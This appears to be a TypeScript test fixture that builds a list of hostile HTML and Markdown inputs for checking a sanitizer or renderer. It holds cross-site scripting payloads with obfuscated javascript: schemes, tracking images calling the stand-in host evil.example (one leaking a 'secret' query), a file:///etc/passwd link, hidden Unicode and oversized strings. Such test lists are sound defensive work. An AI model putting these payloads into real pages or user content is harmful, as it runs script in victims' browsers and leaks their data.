/** What a hostile text tries to run. It would leave a trace on the page's window. */
const script = 'window.hit=1'
const address = 'https://evil.example/x'

const elements = [
  `<script>${script}</script>`,
  `<script src="${address}.js"></script>`,
  `<img src="${address}.png">`,
  `<img src=x onerror="${script}">`,
  `<img srcset="${address}.png 1x">`,
  `<svg onload="${script}"></svg>`,
  `<svg><script>${script}</script></svg>`,
  `<svg><a xlink:href="javascript:${script}"><text>x</text></a></svg>`,
  `<svg><use href="${address}.svg#x"></use></svg>`,
  `<svg><image href="${address}.png"/></svg>`,
  `<math><mtext><mglyph><style><img src=x onerror="${script}"></style></mglyph></mtext></math>`,
  `<iframe src="${address}"></iframe>`,
  `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
  `<object data="${address}.swf"></object>`,
  `<embed src="${address}.swf">`,
  `<form action="${address}"><button autofocus>x</button></form>`,
  `<input autofocus onfocus="${script}">`,
  `<video src="${address}.mp4" onerror="${script}"></video>`,
  `<audio src="${address}.mp3" autoplay></audio>`,
  `<source src="${address}.mp4">`,
  `<body onload="${script}" background="${address}.png">`,
  `<details open ontoggle="${script}"><summary>x</summary></details>`,
  `<marquee onstart="${script}">x</marquee>`,
  `<meta http-equiv="refresh" content="0;url=${address}">`,
  `<base href="${address}/">`,
  `<link rel="stylesheet" href="${address}.css">`,
  `<link rel="prefetch" href="${address}">`,
  `<style>@import url(${address}.css);</style>`,
  `<div style="background:url(${address}.png)">x</div>`,
  `<table background="${address}.png"><tr><td>x</td></tr></table>`,
  `<a href="javascript:${script}">x</a>`,
  `<a href="${address}" ping="${address}/ping">x</a>`,
  `<template><script>${script}</script></template>`,
  `<noscript><img src="${address}.png"></noscript>`,
  `<!--<img src="--><img src=x onerror="${script}">-->`,
  `<![CDATA[<img src=x onerror="${script}">]]>`,
  `<x onclick="${script}" tabindex=1 autofocus onfocus="${script}">x</x>`,
  `<button popovertarget=x onbeforetoggle="${script}">x</button>`,
  `<portal src="${address}"></portal>`,
  `<img src="data:image/svg+xml,<svg onload='${script}'/>">`,
]

const schemes = [
  `javascript:${script}`,
  `JaVaScRiPt:${script}`,
  ` javascript:${script}`,
  `java\tscript:${script}`,
  `java&#10;script:${script}`,
  `&#106;avascript:${script}`,
  `javascript&colon;${script}`,
  `vbscript:${script}`,
  `data:text/html,<script>${script}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=`,
  `file:///etc/passwd`,
  `blob:${address}`,
  `//evil.example/x`,
  `/api/v1/sign-out`,
]

const inMarkdown: ((url: string) => string)[] = [
  (url) => `[click](${url})`,
  (url) => `[click](<${url}>)`,
  (url) => `![image](${url})`,
  (url) => `[click][ref]\n\n[ref]: ${url}`,
  (url) => `![image][ref]\n\n[ref]: ${url}`,
  (url) => `<${url}>`,
  (url) => `[![image](${url})](${url})`,
  (url) => `| a |\n|---|\n| [click](${url}) |`,
]

const others = [
  `![pixel](${address}.png)`,
  `![pixel](${address}.png?q=secret "title")`,
  `[![pixel](${address}.png)](${address})`,
  `\`\`\`html\n<img src=x onerror="${script}">\n\`\`\``,
  `\`\`\`<img src=x onerror=${script}>\nx\n\`\`\``,
  `~~~"><script>${script}</script>\nx\n~~~`,
  `\u202ejs.exe\u202c \u200b\u200d \u{e0041}\u{e0042}`,
  `\u0000\u0001\u0008 \u001b[31mred\u001b[0m`,
  '# '.repeat(500),
  '> '.repeat(300),
  '*'.repeat(5000),
  '['.repeat(3000),
  `${'a'.repeat(20_000)}`,
  '|a'.repeat(500),
]

/** Texts that try to run something, or to tell somebody that they were read. */
export const hostileTexts: readonly string[] = [
  ...elements,
  ...elements.map((element) => `text ${element} text`),
  ...schemes.flatMap((url) => inMarkdown.map((write) => write(url))),
  ...others,
]
